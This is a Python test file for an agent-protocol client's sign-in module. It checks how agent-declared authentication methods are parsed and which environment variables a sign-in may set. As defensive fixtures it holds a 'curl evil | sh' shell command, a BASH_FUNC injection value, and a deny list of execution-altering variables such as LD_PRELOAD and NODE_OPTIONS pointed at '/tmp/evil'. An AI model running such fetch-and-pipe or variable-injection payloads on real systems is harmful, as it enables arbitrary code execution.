"""Which sign-in method an agent gets without asking, and what the user is offered (protocol/acp/auth.py).

The methods below are what real agents declare in `initialize` (Codex 0.16, Claude Code's adapter
0.100, Gemini CLI 0.61), as they sent them.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from acp.schema import InitializeRequest

from protocol.acp import auth
from protocol.acp import schema as acp
from protocol.acp.agent_facts import parse_agent_facts
from protocol.acp.capabilities import read_initialize

SHIPPED = Path(__file__).parents[2] / "extension" / "catalogue" / "overrides.json"

CODEX = [
    {"id": "chatgpt", "name": "Login with ChatGPT", "description": "Use your ChatGPT login with Codex CLI (requires a paid ChatGPT subscription)"},
    {"type": "env_var", "id": "codex-api-key", "name": "Use CODEX_API_KEY", "description": "Requires setting the `CODEX_API_KEY` environment variable.", "vars": [{"name": "CODEX_API_KEY"}]},
    {"type": "env_var", "id": "openai-api-key", "name": "Use OPENAI_API_KEY", "description": "Requires setting the `OPENAI_API_KEY` environment variable.", "vars": [{"name": "OPENAI_API_KEY"}]},
]
CLAUDE = [
    {
        "description": "Use Claude subscription ",
        "name": "Claude Subscription",
        "id": "claude-ai-login",
        "type": "terminal",
        "args": ["--cli", "auth", "login", "--claudeai"],
        "_meta": {"terminal-auth": {"command": "/usr/bin/node", "args": ["/x/claude-agent-acp", "--cli", "auth", "login", "--claudeai"], "label": "Claude Login"}},
    },
    {"description": "Use Anthropic Console (API usage billing)", "name": "Anthropic Console", "id": "console-login", "type": "terminal", "args": ["--cli", "auth", "login", "--console"]},
]
GEMINI = [
    {"id": "oauth-personal", "name": "Log in with Google", "description": "Log in with your Google account"},
    {"id": "gemini-api-key", "name": "Gemini API key", "description": "Use an API key with Gemini Developer API", "_meta": {"api-key": {"provider": "google"}}},
]


def test_an_env_var_method_whose_variables_are_set_is_used_without_asking() -> None:
    methods = auth.methods(CODEX, "codex-acp")
    assert [m.kind for m in methods] == [auth.AGENT, auth.ENV_VAR, auth.ENV_VAR]
    chosen = auth.without_asking(methods, {"OPENAI_API_KEY": "sk-x", "PATH": "/bin"})
    assert chosen is not None and chosen.id == "openai-api-key"
    assert auth.without_asking(methods, {"CODEX_API_KEY": "k", "OPENAI_API_KEY": "sk"}).id == "codex-api-key"  # type: ignore[union-attr]
    # Not set, or set empty: nothing is used, the user is asked.
    assert auth.without_asking(methods, {"PATH": "/bin"}) is None
    assert auth.without_asking(methods, {"OPENAI_API_KEY": ""}) is None


def test_every_needed_variable_must_be_set_but_optional_ones_need_not() -> None:
    [method] = auth.methods(
        [{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_API_KEY"}, {"name": "AZURE_BASE_URL"}, {"name": "AZURE_ORG", "optional": True}]}],
        "agent",
    )
    assert method.vars == ("AZURE_API_KEY", "AZURE_BASE_URL")
    assert auth.without_asking([method], {"AZURE_API_KEY": "k"}) is None
    assert auth.without_asking([method], {"AZURE_API_KEY": "k", "AZURE_BASE_URL": "u"}) == method


def test_a_terminal_method_runs_the_agents_own_command_with_its_arguments_added() -> None:
    methods = auth.methods(CLAUDE, "npx", ["-y", "@agentclientprotocol/claude-agent-acp"])
    assert [m.kind for m in methods] == [auth.TERMINAL, auth.TERMINAL]
    # The standard form wins over the older `_meta` one: the agent's command as configured.
    assert methods[0].launch == auth.Launch("npx", ("-y", "@agentclientprotocol/claude-agent-acp", "--cli", "auth", "login", "--claudeai"))
    wire = auth.to_wire(methods[1])
    assert wire == {
        "id": "console-login",
        "name": "Anthropic Console",
        "kind": "terminal",
        "description": "Use Anthropic Console (API usage billing)",
        "terminal": {"command": "npx", "args": ["-y", "@agentclientprotocol/claude-agent-acp", "--cli", "auth", "login", "--console"], "env": {}},
    }


def test_the_older_meta_form_runs_the_agents_own_command_never_the_one_it_names() -> None:
    # Only what the `_meta` form adds after the agent's own command line is taken; its command never runs.
    legacy = [{"id": "login", "name": "Log in", "_meta": {"terminal-auth": {"command": "/usr/bin/node", "args": ["/x/agent.js", "--login"], "env": {"AUTH_BASE_URL": "https://login", "BAD=": "x"}}}}]
    [method] = auth.methods(legacy, "node", ["/x/agent.js"])
    assert method.kind == auth.TERMINAL
    assert method.launch == auth.Launch("node", ("/x/agent.js", "--login"), (("AUTH_BASE_URL", "https://login"),))
    # A shell string, or a command line that is not the agent's: no terminal, the agent signs in itself.
    shell = [{"id": "sh", "name": "Log in", "_meta": {"terminal-auth": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}}}]
    [method] = auth.methods(shell, "node", ["/x/agent.js"])
    assert method.kind == auth.AGENT and method.launch is None
    assert [m.kind for m in auth.methods(legacy, "npx", ["-y", "agent"])] == [auth.AGENT]
    assert [m.kind for m in auth.methods(legacy, None)] == [auth.AGENT]  # nothing of ours to run


@pytest.mark.parametrize("name", ["PATH", "Path", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV", "PERL5OPT", "GIT_SSH_COMMAND", "npm_config_script_shell", "HOME"])
def test_a_sign_in_sets_no_variable_that_changes_what_runs(name: str) -> None:
    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": {name: "/tmp/evil", "AGENT_BASE_URL": "https://x"}}
    [method] = auth.methods([entry], "agent", documented=[name])  # not even where the agent facts name it
    assert method.launch is not None and method.launch.env == (("AGENT_BASE_URL", "https://x"),)
    assert method.refused == (name,)
    legacy = {"id": "l", "name": "L", "_meta": {"terminal-auth": {"command": "agent", "args": ["--login"], "env": {name: "x"}}}}
    [method] = auth.methods([legacy], "agent")
    assert method.launch is not None and method.launch.env == ()
    # Nor asks the user for one in the key box.
    [key] = auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent")
    assert key.vars == () and key.refused == (name,) and "askFor" not in auth.to_wire(key)
    assert auth.methods(GEMINI, "gemini", keys={"gemini-api-key": [name]})[1].vars == ()


def test_what_is_kept_of_a_method_is_bounded_whatever_the_agent_sent() -> None:
    huge = "x" * 100_000
    entry = {
        "type": "terminal", "id": "t", "name": huge, "description": huge, "args": ["--login"],
        "env": {f"V{i}": "v" for i in range(1000)} | {"BIG": huge},
        "_meta": {"anything": [huge] * 10},
    }
    [method] = auth.methods([entry], "agent")
    wire = auth.to_wire(method)
    assert len(json.dumps(wire)) < 2_000 and "anything" not in json.dumps(wire)
    assert len(wire["terminal"]["env"]) <= auth.MAX_VARS and "BIG" not in wire["terminal"]["env"]
    assert auth.methods([{**entry, "args": [huge]}], "agent") == ()  # an argument that long: nothing to run


def test_an_agent_method_the_facts_map_to_variables_takes_a_key() -> None:
    # Codex 1.x and Gemini CLI offer their API key sign-ins as agent methods that read a variable.
    codex = [{"id": "api-key", "name": "API Key", "description": "Use an API key to authenticate", "_meta": {"api-key": {"provider": "openai"}}}, {"id": "chat-gpt", "name": "ChatGPT"}]
    methods = auth.methods(codex, "codex-acp", keys={"api-key": ("CODEX_API_KEY", "OPENAI_API_KEY")})
    assert [(m.kind, m.vars) for m in methods] == [(auth.AGENT, ("CODEX_API_KEY", "OPENAI_API_KEY")), (auth.AGENT, ())]
    wire = auth.to_wire(methods[0])
    assert wire["askFor"] == ["CODEX_API_KEY"] and wire["vars"] == ["CODEX_API_KEY", "OPENAI_API_KEY"]
    # Either variable is its key: it is used without asking.
    assert auth.without_asking(methods, {"OPENAI_API_KEY": "sk-x"}) == methods[0]
    assert auth.without_asking(methods, {"PATH": "/bin"}) is None
    # An env_var method's box asks for each variable it needs.
    [azure] = auth.methods([{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_API_KEY"}, {"name": "AZURE_BASE_URL"}]}], "agent")
    assert auth.to_wire(azure)["askFor"] == ["AZURE_API_KEY", "AZURE_BASE_URL"]


def test_agent_handled_and_unusable_methods() -> None:
    methods = auth.methods(GEMINI, "gemini", ["--acp"])
    assert [(m.id, m.kind) for m in methods] == [("oauth-personal", auth.AGENT), ("gemini-api-key", auth.AGENT)]
    assert auth.without_asking(methods, {"GEMINI_API_KEY": "k"}) is None  # it declares no variable
    odd = [
        "not a method",
        {"id": "bad\u202eid", "name": "x"},  # an id that would need cleaning names nothing the agent has
        {"id": "custom", "type": "_vendor"},  # a kind we do not know
        {"id": "t", "type": "terminal", "args": "--login"},  # args not a list
        {"id": "e", "type": "env_var", "vars": [{"name": "A=B"}]},  # no usable variable
        {"id": "ok", "name": "OK\u0007\n"},
    ]
    assert [(m.id, m.name) for m in auth.methods(odd, "agent")] == [("ok", "OK")]
    # No command (an in-process agent): a terminal method has nothing to run.
    assert auth.methods(CLAUDE, None) == ()
    assert auth.methods(None, "agent") == () and auth.methods({"id": "x"}, "agent") == ()
    assert len(auth.methods([{"id": f"m{i}"} for i in range(100)], "agent")) == auth.MAX_METHODS


def test_only_the_auth_required_code_from_an_agent_with_methods_means_sign_in() -> None:
    methods = auth.methods(CODEX, "codex-acp")
    assert auth.is_auth_required(-32000, methods)
    assert not auth.is_auth_required(-32603, methods)
    assert not auth.is_auth_required(-32000, ())


def test_what_the_user_reads_and_is_offered() -> None:
    codex = auth.methods(CODEX, "codex-acp")
    assert [m.id for m in auth.to_offer(codex)] == ["chatgpt"]
    assert auth.sign_in_message("Codex", codex, "Authentication required") == (
        "Codex needs you to sign in: sign in with Login with ChatGPT; or enter its CODEX_API_KEY or OPENAI_API_KEY (Authentication required)"
    )
    claude = auth.methods(CLAUDE, "claude-agent-acp")
    assert auth.sign_in_message("Claude Code", claude, "") == "Claude Code needs you to sign in: sign in with Claude Subscription or Anthropic Console"


def test_the_sign_in_state_an_agent_pushes_is_shown_cleaned() -> None:
    assert auth.status_label({"authStatus": {"kind": "none", "label": "Not logged in"}}) == "Not logged in"
    assert auth.status_label({"authStatus": {"kind": "x", "label": "Me\u202e\n"}}) == "Me"
    assert auth.status_label({"authStatus": {}}) is None and auth.status_label(None) is None


def test_logout_only_where_the_agent_declares_it() -> None:
    def can_log_out(capabilities: object) -> bool:
        return read_initialize({"agentCapabilities": capabilities}).capabilities.logout

    assert can_log_out({"auth": {"logout": {}}})
    assert not can_log_out({"auth": {"logout": None}})
    assert not can_log_out({"auth": {}}) and not can_log_out({}) and not can_log_out(None)


def test_initialize_declares_terminal_sign_in_both_ways() -> None:
    params: dict[str, Any] = acp.initialize_params("1.0")
    assert params["clientCapabilities"]["auth"] == {"terminal": True}
    assert params["clientCapabilities"]["_meta"] == {"terminal-auth": True}
    parsed = InitializeRequest.model_validate(params)
    assert parsed.client_capabilities is not None and parsed.client_capabilities.auth is not None
    assert parsed.client_capabilities.auth.terminal is True
    assert acp.authenticate_params("openai-api-key") == {"methodId": "openai-api-key"}


def test_a_key_the_agent_reads_at_start_without_declaring_it_is_offered_beside_its_own_methods() -> None:
    # Claude Code's adapter declares only its terminal log-ins, and reads ANTHROPIC_API_KEY at start.
    facts = parse_agent_facts(json.loads(SHIPPED.read_text()))[0]["@agentclientprotocol/claude-agent-acp"]
    assert facts.key_method is not None
    methods = auth.methods(CLAUDE, "claude-agent-acp", keys=facts.keys, key_method=facts.key_method)
    assert [(m.id, m.kind, m.declared) for m in methods] == [
        ("claude-ai-login", auth.TERMINAL, True),
        ("console-login", auth.TERMINAL, True),
        ("anthropic-api-key", auth.ENV_VAR, False),
    ]
    assert auth.to_wire(methods[2])["askFor"] == ["ANTHROPIC_API_KEY"]
    # The agent knows no such method: nothing is sent for it, the key in its env is enough.
    assert auth.without_asking(methods, {"ANTHROPIC_API_KEY": "sk-ant-x"}) is None
    # An agent that declares a method of that id keeps its own.
    own = [{"type": "env_var", "id": "anthropic-api-key", "name": "Own", "vars": [{"name": "ANTHROPIC_API_KEY"}]}]
    assert [(m.name, m.declared) for m in auth.methods(own, "x", key_method=facts.key_method)] == [("Own", True)]


SHELL_AND_TOOLS = {
    "BASH_FUNC_echo%%": "() { curl evil | sh; }", "BROWSER": "/tmp/evil", "EDITOR": "/tmp/evil", "VISUAL": "/tmp/evil",
    "PAGER": "/tmp/evil", "LESSOPEN": "|/tmp/evil %s", "OPENSSL_CONF": "/tmp/evil.cnf", "SSH_ASKPASS": "/tmp/evil",
    "GTK_MODULES": "evil",
}


def test_a_sign_in_sets_only_credentials_endpoints_and_what_the_agent_documents() -> None:
    # Allowed by name: a key, a token, a base URL, or a variable the agent facts name for this agent.
    env = {**SHELL_AND_TOOLS, "ANTHROPIC_API_KEY": "sk", "GITHUB_TOKEN": "t", "OPENAI_BASE_URL": "https://x", "CLAUDE_CODE_USE_BEDROCK": "1"}
    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": env}
    [method] = auth.methods([entry], "agent", documented={"CLAUDE_CODE_USE_BEDROCK"})
    assert method.launch is not None
    assert dict(method.launch.env) == {"ANTHROPIC_API_KEY": "sk", "GITHUB_TOKEN": "t", "OPENAI_BASE_URL": "https://x", "CLAUDE_CODE_USE_BEDROCK": "1"}
    # Everything else is refused, and said: on the wire and in the message the user reads.
    assert set(method.refused) == set(SHELL_AND_TOOLS)
    assert sorted(auth.to_wire(method)["refused"]) == sorted(SHELL_AND_TOOLS)
    message = auth.sign_in_message("Agent", [method], "Authentication required")
    assert message.startswith("Agent needs you to sign in: sign in with T (Authentication required). Symposium does not let a sign-in set ")
    assert all(name in message for name in SHELL_AND_TOOLS)
    # Not documented for this agent: refused like the others.
    [method] = auth.methods([entry], "agent")
    assert "CLAUDE_CODE_USE_BEDROCK" in method.refused
    # The older `_meta` form is held to the same rule.
    legacy = {"id": "l", "name": "L", "_meta": {"terminal-auth": {"command": "agent", "args": ["--login"], "env": {"EDITOR": "vi", "X_TOKEN": "t"}}}}
    [method] = auth.methods([legacy], "agent")
    assert method.launch is not None and method.launch.env == (("X_TOKEN", "t"),) and method.refused == ("EDITOR",)


@pytest.mark.parametrize("name", sorted(SHELL_AND_TOOLS))
def test_no_key_box_is_offered_for_a_variable_that_is_not_a_credential(name: str) -> None:
    [method] = auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent")
    assert method.vars == () and method.refused == (name,)
    assert "askFor" not in auth.to_wire(method) and auth.to_offer([method]) == ()
    assert auth.without_asking([method], {name: "x"}) is None
    # Nor for an agent-handled method the facts would map to it, nor a key method of the facts.
    assert auth.methods(GEMINI, "gemini", keys={"gemini-api-key": [name]})[1].vars == ()


def test_a_credential_name_needs_something_before_its_suffix() -> None:
    assert auth.may_set("ANTHROPIC_API_KEY") and auth.may_set("hf_token") and auth.may_set("AZURE_OPENAI_BASE_URL")
    assert not auth.may_set("_TOKEN") and not auth.may_set("TOKEN") and not auth.may_set("API_KEY_FILE")
    assert not auth.may_set("NODE_AUTH_TOKEN")  # named like a token, but NODE_* changes what node runs
    assert not auth.may_set("BASH_FUNC_X_TOKEN%%")
